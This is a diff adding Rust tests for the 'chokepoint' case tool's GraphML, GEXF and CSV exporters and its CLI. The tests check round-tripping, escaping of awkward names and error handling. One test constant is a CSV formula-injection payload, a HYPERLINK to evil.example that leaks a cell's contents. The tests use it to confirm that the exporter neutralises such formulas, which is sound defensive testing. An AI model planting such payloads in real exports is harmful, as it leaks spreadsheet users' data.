@@ -1,0 +1,480 @@
+//! Exports to `GraphML`, GEXF and CSV, parsed back: from the library and through the CLI.
+
+use chokepoint::io::export::{csv, gexf, graphml};
+use chokepoint::io::load_case;
+use chokepoint::model::{Case, Entity, EntityKind, NodePosition, Shipment, ShipmentId};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+const GRAPHML_NS: &str = "http://graphml.graphdrawing.org/xmlns";
+const GEXF_NS: &str = "http://gexf.net/1.3";
+const VIZ_NS: &str = "http://gexf.net/1.3/viz";
+
+/// Markup characters, quotes, a tab and a newline: all must come back exactly.
+const HOSTILE_NAME: &str = "Acme & Sons <\"Intl\"> 'Ltd'\tline\ntwo";
+/// A C0 control XML 1.0 cannot carry at all: it is dropped.
+const CONTROL_NAME: &str = "Bell\u{7}Corp";
+const COMMA_NAME: &str = "Lotus, Gate\nHoldings \"HK\"";
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1)";
+
+fn sample_path(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("sample_cases")
+        .join(name)
+}
+
+fn sample_cases() -> Vec<(PathBuf, Case)> {
+    ["seed_kunlun_nest.ron", "training_strait_networks.ron"]
+        .iter()
+        .map(|n| {
+            let path = sample_path(n);
+            let case = load_case(&path).expect("sample case loads");
+            (path, case)
+        })
+        .collect()
+}
+
+/// The seed case plus entities with awkward names and a shipment through them.
+fn hostile_case() -> Case {
+    let mut case = load_case(&sample_path("seed_kunlun_nest.ron")).expect("seed loads");
+    for (id, name) in [
+        ("e-hostile", HOSTILE_NAME),
+        ("e-control", CONTROL_NAME),
+        ("e-comma", COMMA_NAME),
+        ("e-formula", FORMULA_NAME),
+    ] {
+        let mut e = Entity::new(id, EntityKind::Company, name);
+        e.aliases.push("@alias".to_owned());
+        case.entities.insert(e.id.clone(), e);
+    }
+    case.positions.insert(
+        "e-hostile".into(),
+        NodePosition {
+            x: -12.5,
+            y: 40.25,
+            pinned: false,
+        },
+    );
+    let shipment = Shipment {
+        id: ShipmentId::new("s-hostile"),
+        reference: "-BL 7 & <8>".to_owned(),
+        shipper: Some("e-hostile".into()),
+        forwarders: vec!["e-comma".into(), "e-missing".into()],
+        consignee: Some("e-formula".into()),
+        suspected_end_user: Some("e-formula".into()),
+        ..Shipment::default()
+    };
+    case.shipments.insert(shipment.id.clone(), shipment);
+    case
+}
+
+/// Hops counted independently of the exporter: present parties along shipper → forwarders →
+/// consignee → suspected end user, repeats of the previous party collapsed.
+fn expected_edges(case: &Case) -> usize {
+    let links = case
+        .links
+        .values()
+        .filter(|l| case.entities.contains_key(&l.from) && case.entities.contains_key(&l.to))
+        .count();
+    let hops: usize = case
+        .shipments
+        .values()
+        .map(|s| {
+            let mut chain: Vec<_> = s
+                .shipper
+                .iter()
+                .chain(&s.forwarders)
+                .chain(&s.consignee)
+                .chain(&s.suspected_end_user)
+                .filter(|id| case.entities.contains_key(*id))
+                .collect();
+            chain.dedup();
+            chain.len().saturating_sub(1)
+        })
+        .sum();
+    links + hops
+}
+
+fn elements<'a>(
+    doc: &'a roxmltree::Document,
+    ns: &'a str,
+    name: &'a str,
+) -> impl Iterator<Item = roxmltree::Node<'a, 'a>> {
+    doc.descendants()
+        .filter(move |n| n.has_tag_name((ns, name)))
+}
+
+fn graphml_data(node: roxmltree::Node, key: &str) -> Option<String> {
+    node.children()
+        .find(|c| c.has_tag_name((GRAPHML_NS, "data")) && c.attribute("key") == Some(key))
+        .map(|c| c.text().unwrap_or_default().to_owned())
+}
+
+fn gexf_value(node: roxmltree::Node, key: &str) -> Option<String> {
+    node.descendants()
+        .find(|c| c.has_tag_name((GEXF_NS, "attvalue")) && c.attribute("for") == Some(key))
+        .and_then(|c| c.attribute("value").map(str::to_owned))
+}
+
+#[test]
+fn graphml_of_sample_cases_parses_with_right_counts() {
+    // The seed case's shipments name only a suspected end user (no hop); the training case's
+    // run shipper → forwarder → consignee → end user.
+    let mut shipment_edges = 0;
+    for (path, case) in sample_cases() {
+        let text = graphml::write(&case);
+        let doc =
+            roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+        assert_eq!(
+            elements(&doc, GRAPHML_NS, "node").count(),
+            case.entities.len(),
+            "{}",
+            path.display()
+        );
+        let edges = elements(&doc, GRAPHML_NS, "edge").count();
+        assert_eq!(edges, expected_edges(&case), "{}", path.display());
+        shipment_edges += edges - case.links.len();
+        // Keys are declared for what the nodes and edges use.
+        let keys: Vec<_> = elements(&doc, GRAPHML_NS, "key")
+            .filter_map(|k| k.attribute("id"))
+            .collect();
+        for used in elements(&doc, GRAPHML_NS, "data").filter_map(|d| d.attribute("key")) {
+            assert!(keys.contains(&used), "undeclared key {used}");
+        }
+        assert_eq!(text, graphml::write(&case), "stable output");
+    }
+    assert!(shipment_edges > 0, "shipments become edges");
+}
+
+#[test]
+fn gexf_of_sample_cases_parses_with_right_counts() {
+    for (path, case) in sample_cases() {
+        let text = gexf::write(&case);
+        let doc =
+            roxmltree::Document::parse(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+        assert_eq!(elements(&doc, GEXF_NS, "node").count(), case.entities.len());
+        assert_eq!(
+            elements(&doc, GEXF_NS, "edge").count(),
+            expected_edges(&case)
+        );
+        assert_eq!(
+            elements(&doc, VIZ_NS, "position").count(),
+            case.positions
+                .keys()
+                .filter(|id| case.entities.contains_key(*id))
+                .count()
+        );
+        let classes: Vec<_> = elements(&doc, GEXF_NS, "attributes")
+            .filter_map(|a| a.attribute("class"))
+            .collect();
+        assert_eq!(classes, ["node", "edge"]);
+    }
+}
+
+#[test]
+fn graphml_keeps_cjk_markup_and_quotes_exactly() {
+    let case = hostile_case();
+    let text = graphml::write(&case);
+    let doc = roxmltree::Document::parse(&text).expect("well-formed");
+    let node = |id: &str| {
+        elements(&doc, GRAPHML_NS, "node")
+            .find(|n| n.attribute("id") == Some(id))
+            .unwrap_or_else(|| panic!("node {id}"))
+    };
+    assert_eq!(
+        graphml_data(node("e-su-di"), "n_aliases").as_deref(),
+        Some("苏菂")
+    );
+    assert_eq!(
+        graphml_data(node("e-hostile"), "n_name").as_deref(),
+        Some(HOSTILE_NAME)
+    );
+    assert_eq!(
+        graphml_data(node("e-control"), "n_name").as_deref(),
+        Some("BellCorp")
+    );
+    assert_eq!(
+        graphml_data(node("e-hostile"), "n_x").as_deref(),
+        Some("-12.5")
+    );
+    // The shipment: shipper → forwarder (the missing forwarder skipped) → consignee; the
+    // suspected end user is the consignee, so no extra hop.
+    let hops: Vec<_> = elements(&doc, GRAPHML_NS, "edge")
+        .filter(|e| graphml_data(*e, "e_shipment").as_deref() == Some("s-hostile"))
+        .map(|e| {
+            (
+                e.attribute("source").unwrap_or_default().to_owned(),
+                e.attribute("target").unwrap_or_default().to_owned(),
+                graphml_data(e, "e_role").unwrap_or_default(),
+                graphml_data(e, "e_label").unwrap_or_default(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        hops,
+        [
+            (
+                "e-hostile".to_owned(),
+                "e-comma".to_owned(),
+                "shipper→forwarder".to_owned(),
+                "-BL 7 & <8>".to_owned()
+            ),
+            (
+                "e-comma".to_owned(),
+                "e-formula".to_owned(),
+                "forwarder→consignee".to_owned(),
+                "-BL 7 & <8>".to_owned()
+            ),
+        ]
+    );
+    // Undirected links say so.
+    let undirected = case
+        .links
+        .values()
+        .filter(|l| !l.kind.is_directed())
+        .count();
+    assert_eq!(
+        elements(&doc, GRAPHML_NS, "edge")
+            .filter(|e| e.attribute("directed") == Some("false"))
+            .count(),
+        undirected
+    );
+}
+
+#[test]
+fn gexf_keeps_cjk_markup_quotes_and_positions() {
+    let case = hostile_case();
+    let text = gexf::write(&case);
+    let doc = roxmltree::Document::parse(&text).expect("well-formed");
+    let node = |id: &str| {
+        elements(&doc, GEXF_NS, "node")
+            .find(|n| n.attribute("id") == Some(id))
+            .unwrap_or_else(|| panic!("node {id}"))
+    };
+    assert_eq!(
+        gexf_value(node("e-su-di"), "aliases").as_deref(),
+        Some("苏菂")
+    );
+    // Attribute values keep tabs and newlines because they are written as references.
+    assert_eq!(node("e-hostile").attribute("label"), Some(HOSTILE_NAME));
+    assert_eq!(
+        gexf_value(node("e-hostile"), "name").as_deref(),
+        Some(HOSTILE_NAME)
+    );
+    assert_eq!(node("e-control").attribute("label"), Some("BellCorp"));
+    let position = node("e-hostile")
+        .children()
+        .find(|c| c.has_tag_name((VIZ_NS, "position")))
+        .expect("position");
+    assert_eq!(position.attribute("x"), Some("-12.5"));
+    // GEXF's y axis points up.
+    assert_eq!(position.attribute("y"), Some("-40.25"));
+    let kinds: Vec<_> = elements(&doc, GEXF_NS, "edge")
+        .filter(|e| {
+            e.attribute("id")
+                .is_some_and(|id| id.starts_with("s-hostile#"))
+        })
+        .map(|e| e.attribute("kind").unwrap_or_default().to_owned())
+        .collect();
+    assert_eq!(kinds, ["Shipment", "Shipment"]);
+}
+
+/// A small RFC 4180 reader, enough to check the writer: quoted fields may hold commas, doubled
+/// quotes and line breaks.
+fn parse_csv(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut field = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                field.push('"');
+            }
+            (true, '"') => quoted = false,
+            (false, '"') => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut field)),
+            (false, '\r') => {}
+            (false, '\n') => {
+                row.push(std::mem::take(&mut field));
+                rows.push(std::mem::take(&mut row));
+            }
+            // Anything else, and every character inside quotes, is field text.
+            (_, c) => field.push(c),
+        }
+    }
+    assert!(
+        field.is_empty() && row.is_empty(),
+        "last line ends with CRLF"
+    );
+    rows
+}
+
+#[test]
+fn csv_tables_parse_back_with_right_counts() {
+    for (path, case) in sample_cases() {
+        for (text, n, header) in [
+            (
+                csv::entities(&case),
+                case.entities.len(),
+                &csv::ENTITY_HEADER[..],
+            ),
+            (csv::links(&case), case.links.len(), &csv::LINK_HEADER[..]),
+            (
+                csv::shipments(&case),
+                case.shipments.len(),
+                &csv::SHIPMENT_HEADER[..],
+            ),
+        ] {
+            let rows = parse_csv(&text);
+            assert_eq!(rows.len(), n + 1, "{}", path.display());
+            assert_eq!(rows[0], header);
+            assert!(rows.iter().all(|r| r.len() == header.len()));
+        }
+    }
+}
+
+#[test]
+fn csv_keeps_awkward_names_and_neutralises_formulas() {
+    let case = hostile_case();
+    let rows = parse_csv(&csv::entities(&case));
+    let row = |id: &str| {
+        rows.iter()
+            .find(|r| r[0] == id)
+            .unwrap_or_else(|| panic!("row {id}"))
+    };
+    assert_eq!(row("e-comma")[2], COMMA_NAME);
+    assert_eq!(row("e-hostile")[2], HOSTILE_NAME);
+    assert_eq!(row("e-su-di")[3], "苏菂");
+    assert_eq!(row("e-formula")[2], format!("'{FORMULA_NAME}"));
+    assert_eq!(row("e-formula")[3], "'@alias");
+    // Numbers we write stay numbers, negative or not.
+    assert_eq!(row("e-hostile")[14], "-12.5");
+    assert_eq!(row("e-hostile")[15], "40.25");
+    // No cell of any table starts with a formula character unless it is a number.
+    for table in [
+        csv::entities(&case),
+        csv::links(&case),
+        csv::shipments(&case),
+    ] {
+        for cell in parse_csv(&table).iter().flatten() {
+            if cell.starts_with(['=', '+', '-', '@']) {
+                assert!(cell.parse::<f64>().is_ok(), "unguarded cell {cell:?}");
+            }
+        }
+    }
+    let shipments = parse_csv(&csv::shipments(&case));
+    let hostile = shipments
+        .iter()
+        .find(|r| r[0] == "s-hostile")
+        .expect("shipment row");
+    assert_eq!(hostile[1], "'-BL 7 & <8>");
+    assert_eq!(hostile[6], HOSTILE_NAME);
+    assert_eq!(hostile[9], format!("'{FORMULA_NAME}"));
+}
+
+fn chokepoint() -> Command {
+    Command::new(env!("CARGO_BIN_EXE_chokepoint"))
+}
+
+#[test]
+fn cli_exports_each_format() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let seed = sample_path("seed_kunlun_nest.ron");
+    let case = load_case(&seed).expect("seed loads");
+    for (format, file) in [("graphml", "case.graphml"), ("gexf", "case.gexf")] {
+        let target = dir.path().join(file);
+        let out = chokepoint()
+            .args(["export", "--format", format])
+            .arg(&seed)
+            .arg("-o")
+            .arg(&target)
+            .output()
+            .expect("runs");
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let text = std::fs::read_to_string(&target).expect("written");
+        roxmltree::Document::parse(&text).expect("well-formed");
+        let expected = if format == "graphml" {
+            graphml::write(&case)
+        } else {
+            gexf::write(&case)
+        };
+        assert_eq!(text, expected);
+    }
+    let prefix = dir.path().join("seed");
+    let out = chokepoint()
+        .args(["export", "--format", "csv"])
+        .arg(&seed)
+        .arg("-o")
+        .arg(&prefix)
+        .output()
+        .expect("runs");
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    for (suffix, n) in [
+        ("entities", case.entities.len()),
+        ("links", case.links.len()),
+        ("shipments", case.shipments.len()),
+    ] {
+        let text = std::fs::read_to_string(dir.path().join(format!("seed_{suffix}.csv")))
+            .expect("csv written");
+        assert_eq!(parse_csv(&text).len(), n + 1);
+    }
+    assert_eq!(String::from_utf8_lossy(&out.stdout).lines().count(), 3);
+}
+
+#[test]
+fn cli_refuses_bad_format_missing_case_and_bad_usage() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let seed = sample_path("seed_kunlun_nest.ron");
+    let target = dir.path().join("out.xml");
+
+    let out = chokepoint()
+        .args(["export", "--format", "dot"])
+        .arg(&seed)
+        .arg("-o")
+        .arg(&target)
+        .output()
+        .expect("runs");
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown format \"dot\""));
+    assert!(!target.exists());
+
+    let missing = dir.path().join("nope.ron");
+    let out = chokepoint()
+        .args(["export", "--format", "graphml"])
+        .arg(&missing)
+        .arg("-o")
+        .arg(&target)
+        .output()
+        .expect("runs");
+    assert_eq!(out.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("nope.ron"));
+    assert!(!target.exists());
+
+    let out = chokepoint()
+        .args(["export", "--format", "graphml"])
+        .arg(&seed)
+        .output()
+        .expect("runs");
+    assert_eq!(out.status.code(), Some(2), "no -o is a usage error");
+    assert!(String::from_utf8_lossy(&out.stderr).contains("usage: chokepoint export"));
+
+    let out = chokepoint()
+        .args(["export", "--format", "gexf"])
+        .arg(&seed)
+        .arg("-o")
+        .arg(dir.path().join("no-such-dir").join("out.gexf"))
+        .output()
+        .expect("runs");
+    assert_eq!(out.status.code(), Some(1), "unwritable output");
+}
